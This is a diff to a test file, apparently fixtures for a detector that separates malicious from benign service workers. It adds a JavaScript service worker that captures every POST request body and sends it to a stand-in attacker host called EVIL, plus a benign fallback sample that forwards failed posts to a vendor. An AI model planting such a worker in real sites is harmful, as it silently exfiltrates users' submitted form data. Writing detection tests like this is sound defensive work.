@@ -10,6 +10,10 @@ from tests.checks.content.scripting import EVIL, in_file, on_page
 
 WORKERS = [
     (
+        "self.addEventListener('fetch',e=>{const q=e.request;if(q.method==='POST')fetch(q.clone(),"
+        f"{{a:1}}).then(r=>q.clone().text().then(b=>fetch('{EVIL}',{{method:'POST',body:b}})))}})"
+    ),
+    (
         "self.addEventListener('fetch',e=>{const r=e.request;if(r.method==='POST'"
         "){const c=r.clone();"
         f"c.text().then(b=>fetch('{EVIL}/i',{{method:'POST',mode:'no-cors',body:b}}))}}}});"
@@ -103,6 +107,11 @@ HONEST_WORKERS = [
         "fetch(V+'/ulang',{method:'POST',body}))})"
     ),
     # What could not be posted is left with a vendor.
+    (
+        "self.addEventListener('fetch',e=>{if(e.request.method==='POST'){const c=e.request.clone();"
+        "e.respondWith(fetch(e.request).then(r=>r,()=>c.text().then(b=>fetch('https://vendor.example"
+        "/q',{method:'POST',body:b}))))}})"
+    ),
     (
         "self.addEventListener('fetch',e=>{if(e.request.method==='POST'){const c=e.request.clone();"
         "e.respondWith(fetch(e.request).catch(async()=>fetch('https://vendor.example/q',{method:"
